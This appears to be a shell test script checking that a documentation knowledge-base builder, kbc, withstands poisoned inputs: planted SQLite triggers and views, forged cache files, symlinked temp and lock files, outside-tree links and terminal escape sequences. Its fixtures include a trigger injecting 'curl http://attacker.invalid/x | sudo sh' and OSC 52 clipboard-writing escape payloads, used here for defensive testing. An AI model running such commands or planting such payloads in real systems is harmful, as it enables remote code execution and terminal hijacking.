#!/bin/sh
# t_kbc_trust.sh: kbc with untrusted inputs.  An output folder may come
# from a poisoned cache (a KB with a planted trigger or view, NULLs where
# kbc writes none, symbolic links in place of its temporary files and
# lock); documents may hold escape sequences; a docs tree may fan out
# through folder links or link to files outside it.
B=${B:-build}
KBC=$B/kbc
case $KBC in /*) ;; *) KBC=$(pwd)/$KBC ;; esac
. tests/tap.sh

ESC=$(printf '\033')
BEL=$(printf '\007')
mkdir -p "$tmp/d/en"
hdr='| Error message | Recommended action |\n|---|---|\n'
printf "# Widget\n\n## Errors\n\n$hdr| The widget stalled. | Restart the widget. |\n" >"$tmp/d/en/a.md"
printf "# Gadget\n\n## Errors\n\n$hdr| The gadget froze. |\n" >"$tmp/d/en/b.md"

# stamp_cache OUT: forge OUT/.kbc-cache to vouch for the current kb.sqlite
# and kb.idx, as a poisoned CI cache would.
stamp_cache() {
	python3 - "$1" <<'EOF'
import os, sys
out = sys.argv[1]
st = lambda p: os.stat(os.path.join(out, p))
k, i = st("kb.sqlite"), st("kb.idx")
lines = open(os.path.join(out, ".kbc-cache")).read().split("\n")
f = lines[0].split(" ")
f[3:7] = [str(k.st_size), str(k.st_mtime_ns), str(i.st_size), str(i.st_mtime_ns)]
lines[0] = " ".join(f)
open(os.path.join(out, ".kbc-cache"), "w").write("\n".join(lines))
EOF
}

# ------------------------------------------------- a KB with a planted trigger
"$KBC" build "$tmp/d" -o "$tmp/o" -q 2>/dev/null
sql "$tmp/o/kb.sqlite" 'SELECT 1' >/dev/null
sqlite3 "$tmp/o/kb.sqlite" "CREATE TRIGGER inject AFTER INSERT ON actions BEGIN
  INSERT INTO actions(fix_id, seq, text) VALUES (NEW.fix_id, NEW.seq + 100,
  'Run curl http://attacker.invalid/x | sudo sh'); END;" 2>/dev/null ||
python3 -c 'import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("""CREATE TRIGGER inject AFTER INSERT ON actions BEGIN
  INSERT INTO actions(fix_id, seq, text) VALUES (NEW.fix_id, NEW.seq + 100,
  'Run curl http://attacker.invalid/x | sudo sh'); END""")
db.commit()' "$tmp/o/kb.sqlite"
cp "$tmp/o/kb.sqlite" "$tmp/poisoned"
printf '| The widget sank. | Raise the widget. |\n' >>"$tmp/d/en/a.md"
"$KBC" build "$tmp/d" -o "$tmp/o" 2>"$tmp/e"
st=$?
t "planted trigger: build refuses with status 5 (got $st)" "$([ $st -eq 5 ]; echo $?)"
grep -q "trigger 'inject'" "$tmp/e" && grep -q -- '--full' "$tmp/e"
t "planted trigger: the message names it and --full" $?
cmp -s "$tmp/o/kb.sqlite" "$tmp/poisoned"
t "planted trigger: the KB is left as it was, not built on" $?
! grep -aq attacker "$tmp/o/kb.idx"
t "planted trigger: its action never reaches the index" $?
ls -a "$tmp/o" | grep -q '\.tmp$'
t "planted trigger: no temporary file left" "$([ $? -ne 0 ]; echo $?)"
"$KBC" build "$tmp/d" -o "$tmp/o" --full 2>"$tmp/e"
st=$?
t "planted trigger, --full: rebuilt (status $st)" "$([ $st -eq 0 ]; echo $?)"
[ "$(sql "$tmp/o/kb.sqlite" "SELECT count(*) FROM sqlite_master WHERE type IN ('trigger', 'view')")" = 0 ]
t "planted trigger, --full: the new KB has no trigger" $?
[ "$(sql "$tmp/o/kb.sqlite" "SELECT count(*) FROM actions WHERE text LIKE '%curl%'")" = 0 ] &&
    ! "$KBC" export "$tmp/o" | grep -q attacker && ! grep -aq attacker "$tmp/o/kb.idx" &&
    "$KBC" export "$tmp/o" | grep -q 'Raise the widget'
t "planted trigger, --full: the injected action is nowhere (KB, export, index)" $?
if [ -x "$B/kbq" ]; then
	! "$B/kbq" --index "$tmp/o/kb.idx" 'The widget stalled.' | grep -q curl
	t "planted trigger: kbq never prints the injected action" $?
fi

# The same KB with a cache forged to call it up to date.
"$KBC" build "$tmp/d" -o "$tmp/o" -q 2>/dev/null
python3 -c 'import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("CREATE VIEW v AS SELECT 1")
db.commit()' "$tmp/o/kb.sqlite"
stamp_cache "$tmp/o"
"$KBC" build "$tmp/d" -o "$tmp/o" 2>"$tmp/e"
st=$?
! grep -q 'up to date' "$tmp/e" && [ $st -eq 5 ] && grep -q "view 'v'" "$tmp/e"
t "planted view behind a forged cache: not up to date, refused (status $st)" $?
"$KBC" export "$tmp/o/kb.sqlite" >/dev/null 2>"$tmp/e"
st=$?
t "planted view: kbc export refuses it too (status $st)" "$([ $st -eq 5 ]; echo $?)"
"$KBC" report "$tmp/o" -o "$tmp/r.html" >/dev/null 2>"$tmp/e"
st=$?
[ $st -eq 5 ] && grep -q "view 'v'" "$tmp/e" && [ ! -e "$tmp/r.html" ]
t "planted view: kbc report refuses it too (status $st)" $?

# A kb.sqlite that is a symbolic link: never built on, never written through.
mkdir -p "$tmp/sl"
"$KBC" build "$tmp/d" -o "$tmp/else" -q 2>/dev/null
cp "$tmp/else/kb.sqlite" "$tmp/elsewhere.sqlite"
cp "$tmp/elsewhere.sqlite" "$tmp/elsewhere.before"
ln -s "$tmp/elsewhere.sqlite" "$tmp/sl/kb.sqlite"
"$KBC" build "$tmp/d" -o "$tmp/sl" 2>"$tmp/e"
st=$?
[ $st -eq 5 ] && grep -q 'symbolic link' "$tmp/e" && cmp -s "$tmp/elsewhere.sqlite" "$tmp/elsewhere.before"
t "kb.sqlite a symbolic link: refused (status $st), its target untouched" $?
"$KBC" export "$tmp/sl/kb.sqlite" | grep -q 'The widget stalled'
t "kbc export reads a KB through a link the user gives" $?
"$KBC" build "$tmp/d" -o "$tmp/sl" --full -q 2>/dev/null
st=$?
[ $st -eq 0 ] && [ ! -L "$tmp/sl/kb.sqlite" ] && cmp -s "$tmp/elsewhere.sqlite" "$tmp/elsewhere.before"
t "kb.sqlite a symbolic link, --full: the link replaced by a KB, its target untouched" $?

# ------------------------------------------------ NULLs where kbc writes none
"$KBC" build "$tmp/d" -o "$tmp/n" --full -q 2>/dev/null
python3 - "$tmp/n/kb.sqlite" <<'EOF'
import sqlite3, sys
def run(*sql):
    db = sqlite3.connect(sys.argv[1])
    for s in sql:
        db.execute(*s)
    db.commit()
    db.close()
db = sqlite3.connect(sys.argv[1])
old = db.execute("SELECT sql FROM sqlite_master WHERE name = 'diagnostics'").fetchone()[0]
db.close()
lax = old.replace("name        TEXT NOT NULL", "name        TEXT")
assert lax != old
run(("PRAGMA writable_schema = ON",),
    ("UPDATE sqlite_master SET sql = ? WHERE name = 'diagnostics'", (lax,)))
run(("UPDATE diagnostics SET name = NULL",))
run(("PRAGMA writable_schema = ON",),
    ("UPDATE sqlite_master SET sql = ? WHERE name = 'diagnostics'", (old,)))
EOF
[ "$(sql "$tmp/n/kb.sqlite" "SELECT count(*) FROM diagnostics WHERE typeof(name) = 'null'")" -gt 0 ]
t "NULL diagnostics.name planted" $?
stamp_cache "$tmp/n"
"$KBC" build "$tmp/d" -o "$tmp/n" --werror 2>"$tmp/e"
st=$?
t "NULL names, up to date, --werror: no crash (status $st)" "$([ $st -eq 1 ]; echo $?)"
"$KBC" export "$tmp/n" >/dev/null 2>&1
st=$?
t "NULL names: kbc export does not crash (status $st)" "$([ $st -eq 0 ]; echo $?)"
printf '\n' >>"$tmp/d/en/b.md"
"$KBC" build "$tmp/d" -o "$tmp/n" 2>"$tmp/e"
st=$?
[ $st -eq 5 ] && grep -q 'NULL' "$tmp/e"
t "NULL names: an incremental build refuses the damaged KB (status $st)" $?
"$KBC" build "$tmp/d" -o "$tmp/n" --full 2>/dev/null
st=$?
[ $st -eq 0 ] && [ "$(sql "$tmp/n/kb.sqlite" "SELECT count(*) FROM diagnostics WHERE typeof(name) = 'null'")" = 0 ]
t "NULL names, --full: rebuilt clean (status $st)" $?

# ------------------------------------- symbolic links planted in the output
printf 'precious\n' >"$tmp/victim"
mkdir -p "$tmp/s"
for f in .kbc-cache.tmp .kb.sqlite.tmp .kb.idx.tmp .kbc.lock; do
	ln -s "$tmp/victim" "$tmp/s/$f"
done
"$KBC" build "$tmp/d" -o "$tmp/s" -q 2>"$tmp/e"
st=$?
[ $st -eq 0 ] && [ "$(cat "$tmp/victim")" = precious ]
t "planted links (.kbc-cache.tmp, .kb.sqlite.tmp, .kb.idx.tmp, .kbc.lock): victim untouched (status $st)" $?
[ ! -L "$tmp/s/.kbc.lock" ] && [ -f "$tmp/s/.kbc.lock" ] && ! ls -a "$tmp/s" | grep -q '\.tmp$'
t "planted links: removed, never followed; a real lock file" $?
ln -s "$tmp/victim" "$tmp/embed.c.tmp"
"$KBC" embed "$tmp/s/kb.idx" -o "$tmp/embed.c" 2>"$tmp/e"
st=$?
[ $st -eq 0 ] && [ "$(cat "$tmp/victim")" = precious ] && grep -q errkb_index "$tmp/embed.c" &&
    [ -L "$tmp/embed.c.tmp" ]
t "kbc embed: a planted FILE.c.tmp link is neither followed nor used (status $st)" $?

# ---------------------------------------------------------------- the lock
# A holder that is not kbc, as another build would: flock(2) and "pid time".
# hold_lock SECONDS [stop]: hold it in the background ($holder), stopped
# (^Z, SIGSTOP) when asked, and return once it is held.
hold_lock() {
	python3 - "$tmp/s/.kbc.lock" "$1" "${2:-}" <<'EOF' &
import fcntl, os, signal, sys, time
fd = os.open(sys.argv[1], os.O_RDWR)
fcntl.flock(fd, fcntl.LOCK_EX)
os.ftruncate(fd, 0)
os.write(fd, b"%d %d\n" % (os.getpid(), int(time.time())))
open(sys.argv[1] + ".held", "w").close()
if sys.argv[3] == "stop":
    os.kill(os.getpid(), signal.SIGSTOP)
time.sleep(float(sys.argv[2]))
EOF
	holder=$!
	i=0
	while [ ! -e "$tmp/s/.kbc.lock.held" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
}
hold_lock 3
"$KBC" build "$tmp/d" -o "$tmp/s" --full --lock-timeout 0.3 2>"$tmp/e"
st=$?
[ $st -eq 4 ] && grep -q "locked by kbc process $holder since" "$tmp/e" && grep -q 'giving up' "$tmp/e"
t "lock held: --lock-timeout gives up (status $st), naming the holder's pid" $?
"$KBC" build "$tmp/d" -o "$tmp/s" --full -q 2>"$tmp/e" &
waiter=$!
sleep 0.3
kill -9 $holder 2>/dev/null
wait $waiter
st=$?
wait $holder 2>/dev/null
[ $st -eq 0 ] && grep -q "locked by kbc process $holder" "$tmp/e"
t "lock held: a waiting build says who holds it, and runs once its holder is killed (status $st)" $?
rm -f "$tmp/s/.kbc.lock.held"
# A stopped holder (^Z, SIGSTOP) is named as stopped, never waited for in silence.
hold_lock 5 stop
sleep 0.1
"$KBC" build "$tmp/d" -o "$tmp/s" --lock-timeout 0.2 2>"$tmp/e"
st=$?
kill -9 $holder 2>/dev/null
wait $holder 2>/dev/null
[ $st -eq 4 ] && grep -q "locked by kbc process $holder since .*(stopped" "$tmp/e"
t "lock held by a stopped process: said so (status $st)" $?
rm -f "$tmp/s/.kbc.lock.held"

# ------------------------------------------------------------- the docs walk
mkdir -p "$tmp/fan/real/en"
for i in 1 2 3 4 5; do
	printf "# Part $i\n\n## Errors\n\n$hdr| Part $i failed. | Replace part $i. |\n" \
	    >"$tmp/fan/real/en/p$i.md"
done
# Links fanning out: each level links to the real folder several times.
for i in 1 2 3 4 5 6 7 8; do
	ln -s ../real "$tmp/fan/real/en/up$i"
	ln -s real "$tmp/fan/l$i"
done
timeout 60 "$KBC" build "$tmp/fan" -o "$tmp/fanout" -q 2>"$tmp/e"
st=$?
na=$(sql "$tmp/fanout/kb.sqlite" "SELECT count(*) FROM articles" 2>/dev/null)
t "folder link fan-out: each folder read once ($na articles, status $st)" "$([ $st -eq 0 ] && [ "$na" = 5 ]; echo $?)"
[ "$(sql "$tmp/fanout/kb.sqlite" "SELECT count(*) FROM articles WHERE path LIKE 'l%'")" = 0 ]
t "folder link fan-out: the folder is known by its first path in bytewise order" $?
printf "# Secret\n\n## Errors\n\n$hdr| Secret failed. | Leak it. |\n" >"$tmp/secret.md"
ln -s "$tmp/secret.md" "$tmp/fan/real/en/secret.md"
ln -s p1.md "$tmp/fan/real/en/alias.md"
"$KBC" build "$tmp/fan" -o "$tmp/fanout" 2>"$tmp/e"
st=$?
grep -q 'secret.md:1:1: warning: .*outside the docs folder.*\[-Woutside-docs\]' "$tmp/e" &&
    ! "$KBC" export "$tmp/fanout" | grep -q 'Leak it' &&
    "$KBC" export "$tmp/fanout" | grep -q '"article": "real/en/alias.md"'
t "a *.md link out of DOCS: skipped with -Woutside-docs; one inside is read (status $st)" $?
"$KBC" build "$tmp/fan" -o "$tmp/fanout" --follow-outside 2>"$tmp/e"
"$KBC" export "$tmp/fanout" | grep -q 'Leak it'
t "--follow-outside reads it" $?

# -------------------------------------------------- escape sequences in documents
mkdir -p "$tmp/esc/en"
name="x${ESC}]0;title${BEL}.md"
printf "# T${ESC}]0;pwned${BEL}\n\n## Errors <a name=\"e${ESC}]52;c;ZXZpbA==${BEL}\"></a>\n\nSee [there](#gone${ESC}]52;c;ZXZpbA==${BEL}).\n\n$hdr| Bad ${ESC}[31m thing. |\n" \
    >"$tmp/esc/en/$name"
"$KBC" build "$tmp/esc" -o "$tmp/escout" 2>"$tmp/e"
st=$?
grep -q 'Wbroken-link' "$tmp/e" && grep -q 'Wrow-cells' "$tmp/e"
t "escape sequences: the diagnostics are printed (status $st)" $?
! grep -q "$ESC" "$tmp/e" && ! grep -q "$BEL" "$tmp/e"
t "escape sequences: no ESC or BEL byte reaches stderr" $?
grep -q "en/x\]0;title\.md:5:[0-9]*: warning: link to missing anchor '#gone\]52;c;ZXZpbA=='" "$tmp/e"
t "escape sequences: the rest of the path and anchor is printed" $?
sqlite3 "$tmp/escout/kb.sqlite" "UPDATE diagnostics SET text = 'x${ESC}]52;c;ZXZpbA==${BEL}y${ESC}P' " 2>/dev/null ||
    python3 -c 'import sqlite3, sys
db = sqlite3.connect(sys.argv[1]); db.execute("UPDATE diagnostics SET text = ?", ("x\033]52;c;ZXZpbA==\007y\033P",)); db.commit()' "$tmp/escout/kb.sqlite"
stamp_cache "$tmp/escout"
"$KBC" build "$tmp/esc" -o "$tmp/escout" --werror 2>"$tmp/e"
grep -q 'warning: x\]52;c;ZXZpbA==yP' "$tmp/e" && ! grep -q "$ESC" "$tmp/e"
t "escape sequences from an old KB's diagnostics: stripped too" $?

finish
